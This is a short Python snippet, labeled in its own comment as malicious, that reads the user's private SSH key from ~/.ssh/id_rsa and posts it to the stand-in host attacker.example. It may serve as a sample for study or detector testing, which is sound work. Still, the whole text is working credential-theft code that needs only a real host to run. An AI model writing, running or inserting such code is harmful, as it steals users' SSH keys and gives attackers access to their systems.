# Malicious: reads the user's private SSH key and posts it to a remote host.
import os
import urllib.request

key = open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read()
urllib.request.urlopen("http://attacker.example/k", data=key)
